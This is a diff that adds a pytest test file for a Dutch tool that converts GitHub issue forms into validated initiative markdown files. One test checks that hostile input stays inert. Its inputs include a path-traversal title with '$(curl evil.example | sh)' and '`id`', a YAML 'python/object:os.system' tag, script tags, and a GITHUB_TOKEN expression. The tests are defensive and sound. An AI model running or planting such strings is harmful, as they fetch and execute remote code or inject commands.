@@ -1,0 +1,169 @@
+"""From a filled-in GitHub issue form to an initiative file: parsing, mapping, checking, replying."""
+from __future__ import annotations
+
+import datetime as dt
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from kennisbank import issueform
+from kennisbank.frontmatter import parse
+from kennisbank.validate import check_paths
+
+ISSUES = Path(__file__).resolve().parent / "fixtures" / "issues"
+TODAY = dt.date(2024, 6, 1)
+
+
+def body(name: str) -> str:
+    return (ISSUES / f"{name}.md").read_text(encoding="utf-8")
+
+
+def values_of(text: str) -> dict[str, object]:
+    return parse(text.encode("utf-8")).values
+
+
+def test_parse_body_reads_every_answer_and_no_response_as_none() -> None:
+    found = issueform.parse_body(body("minimaal"), issueform.labels_in_order())
+    assert found["Titel"] == "Nationale Buitenspeeldag"
+    assert found["Gemeente"] == "landelijk"
+    assert found["Eindjaar"] is None and found["Aanpak"] is None
+    assert found["Toestemming"].startswith("- [X] ")
+
+
+def test_a_heading_inside_an_answer_stays_part_of_it() -> None:
+    found = issueform.parse_body(body("volledig"), issueform.labels_in_order())
+    assert "### Tips van ons" in found["Aanpak"]
+    hostile = issueform.parse_body(body("kwaadaardig"), issueform.labels_in_order())
+    assert hostile["Website"] == 'https://voorbeeld.nl/?q="><script>alert(1)</script>'
+    assert "### Website\n\nhttps://evil.example" in hostile["Aanpak"]
+
+
+def test_full_issue_maps_onto_the_front_matter() -> None:
+    conversion = issueform.convert(body("volledig"), TODAY)
+    assert conversion.path == "initiatives/noord-brabant/repair-cafe-de-kempen.md"
+    assert values_of(conversion.text) == {
+        "titel": "Repair Café De Kempen",
+        "samenvatting": "Vrijwilligers repareren elke maand kapotte spullen van buurtbewoners: van broodroosters tot fietsen en kleding.",
+        "gemeente": ["Nuenen, Gerwen en Nederwetten", "Eindhoven"],
+        "themas": ["werk-economie", "openbare-ruimte"],
+        "status": "afgerond",
+        "startjaar": 2015,
+        "eindjaar": 2023,
+        "initiatiefnemer": "Stichting Repair Café De Kempen",
+        "rol_overheid": "faciliteren",
+        "partners": ["Bibliotheek Dommeldal", "Woningcorporatie Helpt Elkander"],
+        "website": "https://repaircafe-dekempen.nl",
+        "contact": "info@repaircafe-dekempen.nl",
+        "trefwoorden": ["repareren", "duurzaam", "ontmoeting"],
+        "bijgewerkt": "2024-06-01",
+    }
+    matter = parse(conversion.text.encode("utf-8"))
+    assert matter.body.lstrip("\n").startswith("## Aanpak\n\nElke eerste zaterdag")
+    assert "## Rol van de gemeente\n\nDe gemeente betaalde" in matter.body
+
+
+def test_minimal_issue_is_national_and_has_no_empty_fields() -> None:
+    conversion = issueform.convert(body("minimaal"), TODAY)
+    assert conversion.path == "initiatives/landelijk/nationale-buitenspeeldag.md"
+    values = values_of(conversion.text)
+    assert values["gemeente"] == "landelijk"
+    assert "eindjaar" not in values and "partners" not in values and "rol_overheid" not in values
+    assert conversion.text.endswith("---\n")
+
+
+@pytest.mark.parametrize("name", ["volledig", "minimaal", "kwaadaardig"])
+def test_valid_issues_become_files_the_check_accepts(tmp_path: Path, name: str) -> None:
+    outcome = issueform.submit(body(name), tmp_path / "initiatives", TODAY)
+    assert outcome.ok, outcome.messages
+    assert outcome.target.is_file()
+    assert outcome.target.resolve().is_relative_to((tmp_path / "initiatives").resolve())
+    result = check_paths([tmp_path / "initiatives"])
+    assert not result.errors and len(result.initiatives) == 1
+
+
+def test_hostile_text_arrives_as_plain_values(tmp_path: Path) -> None:
+    conversion = issueform.convert(body("kwaadaardig"), TODAY)
+    # The title cannot choose the path: only the slug of it ends up there.
+    assert conversion.path == "initiatives/zuid-holland/github-workflows-x-curl-evil-example-sh-id-exit-1.md"
+    values = values_of(conversion.text)
+    assert values["titel"] == '../../.github/workflows/x $(curl evil.example | sh) `id` "; exit 1; #'
+    assert values["samenvatting"] == "no: yes\nstatus: afgerond\n--- &anker *alias !!python/object:os.system [x] {y} # niet echt"
+    assert values["status"] == "idee"  # the injected 'status: afgerond' line stayed text
+    assert values["initiatiefnemer"] == '<script>alert("nemer")</script> & ${{ secrets.GITHUB_TOKEN }}'
+    assert values["trefwoorden"] == ["2024-01-01", "no", "null"]
+    assert values["partners"] == ["@kennisbank-initiatieven/redactie", "::error::gevaarlijk"]
+    assert set(values) == {"titel", "samenvatting", "gemeente", "themas", "status", "startjaar", "initiatiefnemer", "partners", "website", "trefwoorden", "bijgewerkt"}
+
+
+def test_invalid_issue_gets_the_checks_messages_and_no_file(tmp_path: Path) -> None:
+    folder = tmp_path / "initiatives"
+    outcome = issueform.submit(body("fouten"), folder, TODAY)
+    assert not outcome.ok
+    assert not outcome.target.exists()
+    texts = {m.field: m.text for m in outcome.messages}
+    assert texts["samenvatting"] == "moet 20 tot 300 tekens lang zijn; nu 8"
+    assert texts["gemeente"] == "onbekende gemeente 'Amsterdm'; bedoelde u 'Amsterdam'?"
+    assert texts["startjaar"] == "moet een geheel getal zijn (bijvoorbeeld 2018), niet 'twintig-twintig'"
+    assert texts["website"].startswith("geen geldig webadres: 'www.buurtbus'")
+    reply = issueform.comment(outcome)
+    assert "Samenvatting: moet 20 tot 300 tekens lang zijn; nu 8" in reply
+    assert "Website: geen geldig webadres" in reply
+
+
+def test_the_reply_fences_hostile_values(tmp_path: Path) -> None:
+    text = body("fouten").replace("www.buurtbus", "````` @iemand <script>x</script>")
+    outcome = issueform.submit(text, tmp_path / "initiatives", TODAY)
+    reply = issueform.comment(outcome)
+    fence = "`" * 6
+    assert f"{fence}text\n" in reply and reply.rstrip().endswith(fence)
+
+
+def test_an_existing_file_is_never_overwritten(tmp_path: Path) -> None:
+    folder = tmp_path / "initiatives"
+    first = issueform.submit(body("minimaal"), folder, TODAY)
+    assert first.ok
+    before = first.target.read_bytes()
+    again = issueform.submit(body("minimaal"), folder, dt.date(2024, 7, 1))
+    assert not again.ok
+    assert "er staat al een initiatief in 'initiatives/landelijk/nationale-buitenspeeldag.md'" in again.messages[0].text
+    assert first.target.read_bytes() == before
+
+
+def test_a_slug_used_elsewhere_is_refused(tmp_path: Path) -> None:
+    folder = tmp_path / "initiatives"
+    other = folder / "utrecht" / "nationale-buitenspeeldag.md"
+    other.parent.mkdir(parents=True)
+    other.write_text(issueform.convert(body("minimaal"), TODAY).text.replace("landelijk", "Utrecht"), encoding="utf-8")
+    outcome = issueform.submit(body("minimaal"), folder, TODAY)
+    assert not outcome.ok
+    assert any("elke bestandsnaam moet uniek zijn" in m.text for m in outcome.messages)
+    assert not outcome.target.exists()
+
+
+def run_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "kennisbank.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
+
+
+def test_cli_van_issue_writes_outputs_for_the_workflow(tmp_path: Path) -> None:
+    (tmp_path / "initiatives").mkdir()
+    outputs = tmp_path / "outputs"
+    result = run_cli(tmp_path, "van-issue", "--body-file", str(ISSUES / "volledig.md"), "--output-dir", "initiatives",
+                     "--github-output", str(outputs), "--datum", "2024-06-01")
+    assert result.returncode == 0, result.stderr
+    assert outputs.read_text(encoding="utf-8") == "valid=true\npath=initiatives/noord-brabant/repair-cafe-de-kempen.md\n"
+    assert run_cli(tmp_path, "check").returncode == 0
+
+
+def test_cli_van_issue_writes_the_reply_when_invalid(tmp_path: Path) -> None:
+    (tmp_path / "initiatives").mkdir()
+    outputs, reply = tmp_path / "outputs", tmp_path / "reactie.md"
+    result = run_cli(tmp_path, "van-issue", "--body-file", str(ISSUES / "fouten.md"), "--comment-file", str(reply),
+                     "--github-output", str(outputs))
+    assert result.returncode == 1
+    assert outputs.read_text(encoding="utf-8") == "valid=false\npath=\n"
+    assert "onbekende gemeente 'Amsterdm'" in reply.read_text(encoding="utf-8")
+    assert not any((tmp_path / "initiatives").rglob("*.md"))
